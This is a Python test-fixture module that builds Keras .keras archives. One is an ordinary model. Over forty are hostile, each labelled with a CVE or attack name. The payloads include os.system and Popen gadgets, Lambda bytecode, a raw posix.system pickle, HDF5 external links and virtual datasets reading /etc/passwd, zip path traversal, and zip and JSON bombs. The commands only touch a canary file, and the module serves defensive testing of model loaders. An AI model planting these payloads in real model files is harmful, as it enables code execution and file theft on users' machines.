"""`.keras` files made by plain zipfile, json and h5py: an ordinary one, and hostile ones with harmless canaries.

Nothing here loads what it makes. A file that were loaded by `keras.models.load_model` might write the canary.
"""

from __future__ import annotations

import io
import json
import struct
import warnings
import zipfile
from collections.abc import Callable, Mapping
from copy import deepcopy
from typing import Any, Final

import h5py
import numpy as np

MEMBERS: Final = ("metadata.json", "config.json", "model.weights.h5")
KERNEL: Final = "layers/dense/vars/0"
Change = Callable[[dict[str, Any]], object]


def layer(kind: str, module: str = "keras.layers", registered: str | None = None, **config: Any) -> dict[str, Any]:
    """Returns a layer as Keras 3 writes it."""
    config = {"name": kind.lower(), "trainable": True} | config
    return {"module": module, "class_name": kind, "config": config, "registered_name": registered}


def configuration() -> dict[str, Any]:
    """Returns that of Flatten and Dense(10, softmax)."""
    first = layer("InputLayer", batch_shape=[None, 28, 28, 1], dtype="float32")
    dense = layer("Dense", units=10, activation="softmax", use_bias=True)
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": [first, layer("Flatten"), dense]},
        "registered_name": None,
        "compile_config": {},
    }


def hdf5(change: Callable[[h5py.File], object] | None = None) -> bytes:
    """Returns the weights of `configuration`."""
    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        file[KERNEL] = np.linspace(-0.1, 0.1, 7840, dtype=np.float32).reshape(784, 10)
        file["layers/dense/vars/1"] = np.zeros(10, np.float32)
        if change is not None:
            change(file)
    return stream.getvalue()


def keras_file(
    config: Mapping[str, Any] | bytes | None = None,
    weights: bytes | None = None,
    more: Mapping[str, bytes] | None = None,
    compression: int = zipfile.ZIP_STORED,
) -> bytes:
    """Returns a zip of the three members, and of others."""
    text = config if isinstance(config, bytes) else json.dumps(config or configuration()).encode()
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compression) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        archive.writestr("metadata.json", '{"keras_version": "3.15.1"}')
        archive.writestr("config.json", text)
        archive.writestr("model.weights.h5", hdf5() if weights is None else weights)
        for name, content in (more or {}).items():
            archive.writestr(name, content)
    return stream.getvalue()


def _config(change: Change) -> bytes:
    config = deepcopy(configuration())
    change(config)
    return keras_file(config)


def _with(extra: dict[str, Any]) -> bytes:
    return _config(lambda config: config["config"]["layers"].insert(1, extra))


def _weights(change: Callable[[h5py.File], object]) -> bytes:
    return keras_file(weights=hdf5(change))


def _replaced(**options: Any) -> bytes:
    def change(file: h5py.File) -> None:
        del file[KERNEL]
        file.create_dataset(KERNEL, **options)

    return _weights(change)


def _linked(link: object) -> bytes:
    def change(file: h5py.File) -> None:
        file.move(KERNEL, "elsewhere")
        file[KERNEL] = link

    return _weights(change)


def _linked_as_keras_2(join: str) -> bytes:
    """Returns a file whose group is an external link, where Keras 2 puts it."""

    def change(file: h5py.File) -> None:
        file.move("layers", "elsewhere")
        file[f"_layer_checkpoint_dependencies{join}dense"] = h5py.ExternalLink("/etc/passwd", "/x")

    return _weights(change)


def _virtual(path: str) -> bytes:
    def change(file: h5py.File) -> None:
        del file[KERNEL]
        layout = h5py.VirtualLayout((784, 10), "<f4")
        layout[:] = h5py.VirtualSource(path, "secret", (784, 10))
        file.create_virtual_dataset(KERNEL, layout)

    return _weights(change)


def _special(attributes: int) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("metadata.json", "{}")
        archive.writestr("config.json", json.dumps(configuration()))
        link = zipfile.ZipInfo("model.weights.h5")
        link.external_attr = attributes << 16
        archive.writestr(link, "/etc/passwd")
    return stream.getvalue()


def _locked() -> bytes:
    content = bytearray(keras_file())
    place = content.rfind(b"PK\x01\x02")
    content[place + 8] |= 1
    return bytes(content)


def _claims_less() -> bytes:
    size = 3 * 1024 * 1024
    content = keras_file(weights=bytes(size), compression=zipfile.ZIP_DEFLATED)
    return content.replace(struct.pack("<I", size), struct.pack("<I", 1000))


def _deep() -> bytes:
    return keras_file(b'{"class_name": "Sequential", "config": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")


def _gadget(module: str, name: str, argument: str) -> dict[str, Any]:
    function = {"module": module, "class_name": "function", "config": name, "registered_name": name}
    return {"module": "keras.layers", "class_name": "Lambda", "registered_name": None, "config": {
        "name": "gadget", "function": function, "arguments": {"args": argument}}}  # fmt: skip


def hostile_files(canary: str) -> dict[str, bytes]:
    """Returns forty and more files by what they try.

    Args:
        canary: path of the file that program code in them would write, were it run.
    """
    touch = f"touch {canary}"
    code = {"class_name": "__lambda__", "config": {"code": "4wAAAAA=" + touch, "defaults": None, "closure": None}}
    lambda_layer = layer("Lambda", function=code)
    node = {"args": [{"class_name": "function", "module": "builtins", "config": "eval"}], "kwargs": {}}
    tensors = {"args": [{"class_name": "__keras_tensor__", "config": {"keras_history": ["flatten", 0, 0]}}] * 2}

    def functional(inbound: list[Any]) -> Change:
        def change(config: dict[str, Any]) -> None:
            config["class_name"] = "Functional"
            for each in config["config"]["layers"]:
                each["inbound_nodes"] = inbound

        return change

    huge = {"shape": (2**40, 2**10), "dtype": "<f4", "chunks": (1, 1)}
    external = {"shape": (784, 10), "dtype": "<f4", "external": [("/etc/passwd", 0, 31360)]}
    written = {"shape": (784, 10), "dtype": "<f4", "external": [(canary, 0, 31360)]}
    whole = keras_file()
    return {
        "CVE-2024-3660 Lambda bytecode": _with(lambda_layer),
        "CVE-2025-1550 any function by name": _with(_gadget("os", "system", touch)),
        "CVE-2025-1550 class of any module": _with(layer("Popen", "subprocess", args=touch)),
        "CVE-2025-8747 functions of Keras as gadgets": _with(_gadget("keras.utils", "get_file", canary)),
        "CVE-2025-9905 .h5 ignores safe mode": hdf5(),
        "CVE-2025-9906 safe mode switched off": _with(
            {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization"}
        ),
        "CVE-2025-49655 TorchModuleWrapper pickle": _with(layer("TorchModuleWrapper", module_pickle=touch)),
        "CVE-2026-12484 TorchModuleWrapper pickle": _with(
            layer("TorchModuleWrapper", "keras.src.utils.torch_utils", pickled={"module": touch})
        ),
        "CVE-2025-12058 StringLookup reads files": _with(layer("StringLookup", vocabulary="/etc/passwd")),
        "CVE-2025-12058 StringLookup asks addresses": _with(layer("StringLookup", vocabulary="http://127.0.0.1:9/x")),
        "CVE-2025-12060 tar": bytes(257) + b"ustar" + bytes(500),
        "CVE-2026-0897 HDF5 shape bomb": _replaced(**huge),
        "CVE-2026-1669 HDF5 external storage": _replaced(**external),
        "CVE-2026-1669 HDF5 external storage that is written": _replaced(**written),
        "CVE-2026-12480 HDF5 virtual data set": _virtual("/etc/passwd"),
        "CVE-2026-1462 TFSMLayer": _with(layer("TFSMLayer", filepath="/tmp/saved_model")),
        "CVE-2026-12479 layer named ..": _with(layer("Dense", "keras.layers", name="..", units=4)),
        "CVE-2026-12481 Lambda where safe_mode is None": _with(
            layer("Lambda", function=code, safe_mode=None, output_shape=None)
        ),
        "function called for an unconnected node": _config(functional([node])),
        "Orbax assets": keras_file(more={"assets/checkpoint.orbax": b"x"}),
        "HDF5 external link": _linked(h5py.ExternalLink("/etc/passwd", "/x")),
        "HDF5 soft link": _linked(h5py.SoftLink("/elsewhere")),
        "HDF5 external link where Keras 2 has its layers": _linked_as_keras_2("/"),
        "HDF5 external link with a backslash in its name": _linked_as_keras_2("\\"),
        "NumPy number that is an array of objects": _with(
            layer("ReLU", max_value={"class_name": "__numpy__", "config": {"value": [[touch]], "dtype": "object"}})
        ),
        "NumPy number that names a function": _with(
            layer("ReLU", negative_slope={"class_name": "__numpy__", "config": {"value": 0.0, "dtype": code}})
        ),
        "function in the compiled part": _config(
            lambda config: config.update(compile_config={"loss": {"class_name": "function", "config": "system",
                                                                  "module": "os", "registered_name": "function"}})
        ),
        "code in an initializer": _config(
            lambda config: config["config"]["layers"][2]["config"].update(kernel_initializer=code)
        ),
        "custom object": _with(layer("Dense", "my_package", "my_package>Dense", units=4)),
        "nested network": _with(configuration()),
        "two inputs": _config(functional([tensors])),
        "zip bomb": keras_file(weights=bytes(60 * 1024 * 1024), compression=zipfile.ZIP_DEFLATED),
        "zip bomb of configuration": keras_file(b" " * 900_000, compression=zipfile.ZIP_DEFLATED),
        "zip beyond the limit": keras_file(weights=bytes(70 * 1024 * 1024), compression=zipfile.ZIP_DEFLATED),
        "zip that claims less than it holds": _claims_less(),
        "zip of a thousand members": keras_file(more={f"a{number}": b"" for number in range(1000)}),
        "path out of the archive": keras_file(more={"../../escape": b"x"}),
        "absolute path": keras_file(more={canary: b"x"}),
        "member twice": keras_file(more={"config.json": b"{}"}),
        "symbolic link": _special(0o120777),
        "device": _special(0o020666),
        "locked by a password": _locked(),
        "packed by bzip2": keras_file(compression=zipfile.ZIP_BZIP2),
        "deep JSON": _deep(),
        "JSON with a name twice": keras_file(b'{"class_name": "Sequential", "class_name": "Functional"}'),
        "JSON with NaN": keras_file(b'{"class_name": NaN}'),
        "a huge number": keras_file(b'{"class_name": "Sequential", "config": ' + b"9" * 50_000 + b"}"),
        "a long text": _with(layer("Dense", units=4, note="A" * 5000)),
        "huge claim of units": _with(layer("Dense", units=10**15)),
        "five million parameters and more": _with(layer("Conv2D", filters=10**9, kernel_size=[3, 3])),
        "wrong shape": _replaced(data=np.zeros((10, 784), np.float32)),
        "wrong type": _replaced(data=np.zeros((784, 10))),
        "compressed data set": _replaced(data=np.zeros((784, 10), np.float32), compression="gzip"),
        "no weights": _weights(lambda file: file.pop("layers/dense")),
        "weights that are not numbers": _replaced(data=np.full((784, 10), np.nan, np.float32)),
        "cut off": whole[: len(whole) // 2],
        "weights cut off": keras_file(weights=hdf5()[:3000]),
        "no file": b"",
        "SavedModel": keras_file(more={"saved_model.pb": b"x"}),
        "pickle": b"\x80\x04cposix\nsystem\n(V" + touch.encode() + b"\ntR.",
        "tflite": b"\x1c\x00\x00\x00TFL3" + bytes(100),
        "onnx": b"\x08\x09" + bytes(100),
    }  # fmt: skip
